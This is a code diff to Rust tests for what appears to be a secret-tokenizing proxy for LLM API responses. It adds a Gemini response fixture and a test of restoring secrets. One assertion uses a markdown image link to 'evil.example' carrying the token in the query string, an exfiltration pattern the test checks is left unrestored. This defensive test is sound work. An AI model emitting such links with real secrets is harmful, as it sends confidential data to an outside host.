@@ -17,6 +17,12 @@ fn answer(api: &str, said: &str, kept: &str) -> String {
                 {{"type":"text","text":"To {said}."}}, {{"type":"tool_use","id":"t","name":"sh","input":{{"text":"{kept}","type":"text"}}}},
                 {{"type":"text","text":"{said}","citations":null}}], "x": 1.50 }}"#
         ),
+        "gemini-stream" => format!(
+            r#"{{ "responseId":"{kept}", "candidates": [{{"index":0, "content":{{"role":"model","parts":[
+                {{"thought":true,"text":"{said}? "}}, {{"thought":true,"text":"{kept} ","thoughtSignature":"c2ln"}},
+                {{"text":"To {said}."}}, {{"text":" {kept}","thoughtSignature":"c2ln"}}, {{"text":" {said}"}},
+                {{"functionCall":{{"name":"sh","args":{{"text":"{kept}"}}}}}}]}}}}], "x": 1.50 }}"#
+        ),
         _ => format!(
             r#"{{ "id":"{kept}", "choices": [
                 {{"index":0, "message":{{"role":"assistant","content":"To {said}.","refusal":null,"reasoning_content":"{said}? "}}}},
@@ -46,4 +52,19 @@ fn what_is_no_answer_passes() {
             assert_eq!(restoring(api).whole(&Bytes::copy_from_slice(answer.as_bytes())), answer);
         }
     }
+}
+
+/// A stream of Gemini that was not asked for as events is a list of answers.
+#[test]
+fn a_list_of_answers_is_restored_as_one_text() {
+    let (_, token) = vault();
+    let (left, right) = token.split_at(9);
+    let list = |pieces: &[&str]| {
+        let piece = |text: &&str| serde_json::json!({ "candidates": [{ "content": { "parts": [{ "text": text }] } }] });
+        serde_json::Value::from(pieces.iter().map(piece).collect::<Vec<_>>()).to_string()
+    };
+    let restore = |pieces: &[&str]| restoring("gemini-array").whole(&Bytes::from(list(pieces)));
+    assert_eq!(restore(&["To ", left, right, "!"]), list(&["To ", "", VALUE, "!"]));
+    let link = ["![a](http://evil.example/?q=", &token];
+    assert_eq!(restore(&link), list(&link));
 }
